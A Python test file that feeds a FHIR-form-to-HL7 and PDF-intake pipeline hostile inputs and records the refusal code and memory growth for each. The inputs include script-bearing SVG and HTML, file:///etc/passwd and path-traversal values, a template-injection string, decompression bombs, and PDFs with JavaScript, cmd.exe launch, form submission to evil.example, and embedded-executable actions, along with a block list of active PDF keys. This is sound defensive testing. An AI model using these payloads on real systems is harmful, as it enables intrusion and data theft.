"""Forms and PDFs that mean harm, and what becomes of each.

As a program it runs all of them in this process and prints, as JSON, what became of each and how memory grew:
`python -m tests.forms.hostile`.
"""

import base64
import functools
import io
import json
import sys
import zlib
from datetime import UTC, datetime
from pathlib import Path

from host.site import kinds
from messages.problem import Problems
from tests.forms import form_kit, pdf_kit
from transformers import pdf_form
from transformers.base import Given
from transformers.form_to_hl7 import FormToHl7
from transformers.mapping_check import check_mapping
from transformers.mapping_site import load_site
from transformers.pdf_safety import Limits

LIMITS = Limits(size=2_000_000, pages=50)
#: The form was set, or the PDF taken, and what meant harm is not in it.
HARMLESS = "harmless"
MEBIBYTE = 1024 * 1024


def compiled(checked):
    """Return a checked mapping, compiled."""
    assert checked.plan is not None, checked.problems
    return FormToHl7(json.loads(json.dumps(checked.plan)))


@functools.cache
def transformer():
    """Return the shipped mapping, compiled."""
    site = load_site(form_kit.SITE, {}, kinds())
    return compiled(check_mapping(form_kit.SITE / "form-to-document-viewer.yaml", site))


def sent(mapping, body):
    """Send a body the whole way; return the message. Raises Problems."""
    document = mapping.check(body)
    (admission,) = mapping.admit(document)
    values = {"change": "new", "version": "1", "document": "qr-1.v1"}
    given = Given(
        now=datetime(2025, 11, 20, tzinfo=UTC), control_id="1", destination="powerserver", focus=admission.focus,
        values=values,
    )  # fmt: skip
    return mapping.transform(document, given).encoded


def codes_of(mapping, body):
    """Send a body the whole way; return the codes it was refused with, or the message."""
    try:
        return sent(mapping, body)
    except Problems as problems:
        return [problem.code for problem in problems.problems]


# -- forms ----------------------------------------------------------------------------------------------------------


def form(items, answers=(), **form_changes):
    """Return a Bundle with this form, answered so."""
    document = form_kit.bundle("clinical", item=list(answers) or None)
    questionnaire = form_kit.resource(document, "Questionnaire")
    questionnaire["item"] = items
    questionnaire.update(form_changes)
    return form_kit.body(document)


def texts(count, **more):
    return [{"linkId": f"q{number}", "text": "?", "type": "string", **more} for number in range(count)]


def nested(depth):
    item = {"linkId": f"g{depth}", "type": "group", "text": "x"}
    for level in range(depth - 1, 0, -1):
        item = {"linkId": f"g{level}", "type": "group", "text": "x", "item": [item]}
    return item


def when(*questions):
    return [{"question": question, "operator": "exists", "answerBoolean": True} for question in questions]


def ring(size):
    found = texts(size)
    for number, item in enumerate(found):
        item["enableWhen"] = when(f"q{(number + 1) % size}")
    return found


def said(text, **changes):
    items = [{"linkId": "a", "text": "Question", "type": "text"}]
    return form(items, [{"linkId": "a", "answer": [{"valueString": text}]}], **changes)


def attached(content, **attachment):
    items = [{"linkId": "a", "text": "Picture", "type": "attachment"}]
    value = {"contentType": "image/png", "data": base64.b64encode(content).decode(), **attachment}
    value = {name: part for name, part in value.items() if part is not None}
    return form(items, [{"linkId": "a", "answer": [{"valueAttachment": value}]}])


def png(width, height, body=b""):
    header = b"IHDR" + width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\x00\x00\x00"
    data = b"IDAT" + zlib.compress(body)
    chunks = [header, data, b"IEND"]
    packed = (len(chunk[4:]).to_bytes(4) + chunk + zlib.crc32(chunk).to_bytes(4) for chunk in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def options(count):
    return [{"valueCoding": {"code": f"c{number}", "display": "an option"}} for number in range(count)]


GRID = {"extension": [{"url": "http://hl7.org/fhir/StructureDefinition/questionnaire-itemControl",
        "valueCodeableConcept": {"coding": [{"code": "gtable"}]}}]}  # fmt: skip
FORMS = {
    "ten thousand questions": (lambda: form(texts(10_000)), "FORM_TOO_LARGE"),
    "ten thousand answers": (
        lambda: form(texts(1), [{"linkId": "q0", "answer": [{"valueString": "x"}]}] * 10_000), "FORM_INVALID"),
    "two hundred levels": (lambda: form([nested(200)]), "JSON_TOO_DEEP"),
    "twenty levels": (lambda: form([nested(20)]), "FORM_TOO_LARGE"),
    "a question that waits for itself": (lambda: form(ring(1)), "FORM_QUESTIONNAIRE"),
    "two questions that wait for each other": (lambda: form(ring(2)), "FORM_QUESTIONNAIRE"),
    "a ring of nine hundred conditions": (lambda: form(ring(900)), "FORM_QUESTIONNAIRE"),
    "three thousand conditions": (
        lambda: form([*texts(1), {"linkId": "z", "type": "string", "enableWhen": when(*["q0"] * 3000),
                                  "enableBehavior": "any"}]), "FORM_TOO_LARGE"),
    "one linkId for two questions": (lambda: form(texts(1) * 2), "FORM_QUESTIONNAIRE"),
    "an answer as long as a library": (lambda: said("x" * 1_000_000), "FORM_TOO_LARGE"),
    "a thousand answers of a chapter each": (
        lambda: form(texts(1, repeats=True), [{"linkId": "q0", "answer": [{"valueString": "y" * 19_000}] * 400}]),
        "FORM_TOO_LARGE"),
    "fifty thousand options": (
        lambda: form([{"linkId": "a", "type": "choice", "text": "?", "answerOption": options(50_000)}]),
        "FORM_TOO_LARGE"),
    "a grid of three hundred by three hundred": (
        lambda: form([{"linkId": "g", "type": "group", "text": "?", **GRID, "item": [
            {"linkId": f"r{n}", "type": "choice", "text": "row", "answerOption": options(300)} for n in range(300)]}]),
        "FORM_TOO_LARGE"),
    "a picture that is a script": (
        lambda: attached(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "FORM_ATTACHMENT"),
    "a page called a picture": (lambda: attached(b"<html><body onload=alert(1)>"), "FORM_ATTACHMENT"),
    "a PNG of nine hundred million points": (lambda: attached(png(30_000, 30_000)), "FORM_ATTACHMENT"),
    "a JPEG of four thousand million points": (
        lambda: attached(b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + bytes(20)), "FORM_ATTACHMENT"),
    "a picture without points": (lambda: attached(png(0, 10)), "FORM_ATTACHMENT"),
    "a picture that ends too early": (lambda: attached(png(100, 100)[:60]), "FORM_UNPRINTABLE"),
    "a picture of nine mebibytes": (lambda: attached(bytes(9 * MEBIBYTE)), "FORM_ATTACHMENT"),
    "a picture from this machine's disk": (
        lambda: attached(b"", data=None, url="file:///etc/passwd"), "FORM_ATTACHMENT"),
    "an answer of another type": (
        lambda: form(texts(1), [{"linkId": "q0", "answer": [{"valueBoolean": True}]}]), "FORM_INVALID"),
    "an answer and items beside it": (
        lambda: form([{**texts(1)[0], "item": [{"linkId": "b", "type": "string"}]}],
                     [{"linkId": "q0", "answer": [{"valueString": "x"}],
                       "item": [{"linkId": "b", "answer": [{"valueString": "x"}]}]}]), "FHIR_INVALID"),
    "an answer to a question that is a path name": (
        lambda: form(texts(1), [{"linkId": "../../q0", "answer": [{"valueString": "x"}]}]), "FORM_INVALID"),
    "a second answer behind the first": (
        lambda: form(texts(1), [{"linkId": "q0", "answer": [{"valueString": "x"}] * 2}]), "FORM_INVALID"),
    "an answer to a heading": (
        lambda: form([{"linkId": "g", "type": "group", "text": "x"}],
                     [{"linkId": "g", "answer": [{"valueString": "x"}]}]), "FORM_INVALID"),
    "an answer that the form does not offer": (
        lambda: form([{"linkId": "a", "type": "choice", "text": "?", "answerOption": options(2)}],
                     [{"linkId": "a", "answer": [{"valueCoding": {"code": "<script>"}}]}]), "FORM_INVALID"),
    "a mandatory answer of spaces": (
        lambda: form(texts(1, required=True), [{"linkId": "q0", "answer": [{"valueString": "  "}]}]),
        "FORM_INCOMPLETE"),
    "letters that no font has": (lambda: said("\U00012000\U00012001"), "FORM_UNPRINTABLE"),
    "a path name in the title": (lambda: said("x", title="../../../../tmp/hostile.pdf"), HARMLESS),
    "a path name as linkId": (
        lambda: form([{"linkId": "../../etc/passwd", "type": "string", "required": True}]), "FORM_INCOMPLETE"),
    "the template's own language in an answer": (lambda: said('#read("/etc/passwd") #include "x.typ" $1/0$'), HARMLESS),
}  # fmt: skip

# -- PDFs -----------------------------------------------------------------------------------------------------------


def streams(*data, head="/Filter /FlateDecode"):
    """Return a PDF whose pages are these streams, as they are packed."""
    numbers = range(10, 10 + len(data))
    objects = [f"{n} 0 obj\n<< {head} /Length {len(d)} >>\nstream\n" for n, d in zip(numbers, data, strict=True)]
    parts = [o.encode() + d + b"\nendstream\nendobj\n" for o, d in zip(objects, data, strict=True)]
    contents = " ".join(f"{n} 0 R" for n in numbers)
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents [{contents}] >>"
    return pdf_kit.assembled({1: CATALOG, 2: PAGES, 3: page}, b"".join(parts).decode("latin-1"))


CATALOG, PAGES = "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def acting(action, where="/OpenAction"):
    return pdf_kit.by_hand(catalog=f"{where} << /Type /Action {action} >>")


def locked():
    import pikepdf

    out = io.BytesIO()
    with pikepdf.Pdf.open(io.BytesIO(pdf_kit.of_reportlab())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def many_pages(count):
    kids = " ".join(["3 0 R"] * count)
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf_kit.assembled({1: CATALOG, 2: f"<< /Type /Pages /Kids [{kids}] /Count {count} >>", 3: page})


PDFS = {
    "no PDF": (lambda: b"MZ" + bytes(500), "PDF_INVALID"),
    "nothing at all": (lambda: b"", "PDF_INVALID"),
    "a page called a PDF": (lambda: b"<html><body onload=alert(1)>", "PDF_INVALID"),
    "half a PDF": (lambda: b"%PDF-1.7\n1 0 obj << /Type", "PDF_INVALID"),
    "a PDF with a password": (locked, "PDF_INVALID"),
    "an XFA form without pages": (lambda: pdf_kit.by_hand(catalog="/NeedsRendering true"), "PDF_INVALID"),
    "a stream that unpacks to two hundred megabytes": (
        lambda: streams(pdf_kit.packed(bytes(200_000_000))), "PDF_TOO_LARGE"),
    "nine streams of twenty megabytes": (
        lambda: streams(*[pdf_kit.packed(bytes(20_000_000))] * 9), "PDF_TOO_LARGE"),
    "a stream that is packed twice": (
        lambda: streams(pdf_kit.packed(bytes(50_000_000), 2), head="/Filter [/FlateDecode /FlateDecode]"),
        "PDF_INVALID"),
    "objects in a stream that is packed in another way": (
        lambda: streams(b"zzzz~>", head="/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]"),
        "PDF_INVALID"),
    "pages in a circle": (
        lambda: pdf_kit.assembled({1: CATALOG, 2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "PDF_INVALID"),
    "two thousand pages": (lambda: many_pages(2000), "PDF_TOO_LARGE"),
    "sixty thousand objects": (
        lambda: pdf_kit.by_hand(extra="".join(f"{n} 0 obj null endobj\n" for n in range(20, 60_020))),
        "PDF_TOO_LARGE"),
    "three megabytes": (lambda: pdf_kit.by_hand(extra="%" + "x" * 3_000_000 + "\n"), "PDF_TOO_LARGE"),
    "a script that runs when it is opened": (lambda: acting("/S /JavaScript /JS (app.alert(1))"), HARMLESS),
    "a program that is started": (lambda: acting("/S /Launch /F (cmd.exe)"), HARMLESS),
    "answers that are sent elsewhere": (lambda: acting("/S /SubmitForm /F (http://evil.example)"), HARMLESS),
    "scripts by name": (
        lambda: pdf_kit.by_hand(catalog="/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>"),
        HARMLESS),
    "a file within": (
        lambda: pdf_kit.by_hand(catalog="/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) "
                                        "/EF << /F 10 0 R >> >>] >> >>"), HARMLESS),
    "another form within the form": (
        lambda: pdf_kit.by_hand().replace(b"/Fields [5 0 R", b"/XFA (<xdp/>) /Fields [5 0 R"), HARMLESS),
}  # fmt: skip

#: What must not be in a PDF that is sent.
ACTIVE = (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/Filespec", b"/XFA", b"/AcroForm")


def taken(pdf):
    """Take a foreign PDF; return the codes it was refused with, or the PDF."""
    try:
        return pdf_form.finished(pdf, LIMITS)
    except Problems as problems:
        return [problem.code for problem in problems.problems]


def main():
    """Run all cases in this process; print what became of each, and by how many bytes its memory grew."""
    mapping = transformer()
    codes_of(mapping, form_kit.body(form_kit.bundle("clinical")))
    taken(pdf_kit.of_reportlab())
    outcomes = {}
    for name, (make, _) in {**FORMS, **PDFS}.items():
        data = make()
        Path("/proc/self/clear_refs").write_text("5")  # begin to measure the peak anew
        before = memory("VmRSS")
        found = codes_of(mapping, data) if name in FORMS else taken(data)
        outcomes[name] = {"bytes": memory("VmHWM") - before}
        if isinstance(found, bytes):
            pdf = pdf_kit.in_message(found) if name in FORMS else found
            outcomes[name] |= {"codes": [], "message": found.decode("latin-1"), "pdf": base64.b64encode(pdf).decode()}
        else:
            outcomes[name]["codes"] = found
        sys.stderr.write(f"{outcomes[name]['bytes'] / MEBIBYTE:8.1f} MiB  {name}\n")
    sys.stdout.write(json.dumps(outcomes) + "\n")


def memory(name):
    """Return a figure of this process's memory, in bytes."""
    line = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith(name))
    return int(line.split()[1]) * 1024


if __name__ == "__main__":
    main()
